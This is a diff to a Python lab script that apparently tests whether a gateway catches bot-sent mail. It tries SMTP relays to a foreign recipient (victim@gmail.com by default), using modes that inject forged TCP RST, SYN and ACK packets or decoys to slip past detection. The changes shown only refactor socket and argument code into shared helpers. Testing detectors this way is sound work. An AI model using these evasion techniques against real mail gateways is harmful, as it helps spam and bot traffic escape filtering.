@@ -30,12 +30,10 @@ connection's 4-tuple and sequence numbers, read from a capture of the
 session itself. The attempt: MAIL, RCPT to a foreign domain, a pause (a
 bot's), DATA and a message.
 """
-import argparse
-import socket
 import sys
 import time
 
-from smtp_session import step
+from smtp_session import client_arguments, connect, quit_session, step
 
 
 class Forger:
@@ -109,18 +107,10 @@ def transaction(sock, f, a, rcpt, pad=0, forger=None, body_kb=0):
 
 def session(a):
     forger = Forger(a) if a.how in ("rst", "syn", "ack", "decoy") else None
-    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    sock.settimeout(a.timeout)
-    sock.bind((a.src, 0))
-    try:
-        sock.connect((a.server, 25))
-    except OSError as e:
-        print(f"connect failed ({e})", flush=True)
+    conn = connect(a)
+    if conn is None:
         return
-    print("connect ok", flush=True)
-    f = sock.makefile("rb")
-    if step(sock, f, "greeting", b"") is None:
-        return
+    sock, f = conn
     if a.how == "burst":
         sock.sendall((f"EHLO bot.lab.test\r\nMAIL FROM:<{a.sender}>\r\n"
                       f"RCPT TO:<{a.local}>\r\nDATA\r\nSubject: burst\r\n"
@@ -140,24 +130,20 @@ def session(a):
     if not transaction(sock, f, a, a.rcpt, 1100 if a.how == "pad" else 0,
                        forger):
         return
-    step(sock, f, "QUIT", b"QUIT\r\n")
-    sock.close()
+    quit_session(sock, f)
 
 
 def main():
-    p = argparse.ArgumentParser()
-    p.add_argument("--server", required=True)
+    p = client_arguments()
     p.add_argument("--src", required=True)
     p.add_argument("--how", required=True,
                    choices=("second", "rst", "syn", "ack", "pad", "decoy",
                             "burst"))
     p.add_argument("--gw-mac")
     p.add_argument("--iface")
-    p.add_argument("--sender", default="bot@attacker.invalid")
     p.add_argument("--local", default="user@example.test")
     p.add_argument("--rcpt", default="victim@gmail.com")
     p.add_argument("--pause", type=float, default=0.3)
-    p.add_argument("--timeout", type=float, default=2.0)
     a = p.parse_args()
     if a.how in ("rst", "syn", "ack", "decoy") and not (a.gw_mac and a.iface):
         p.error(f"--how {a.how} needs --gw-mac and --iface")
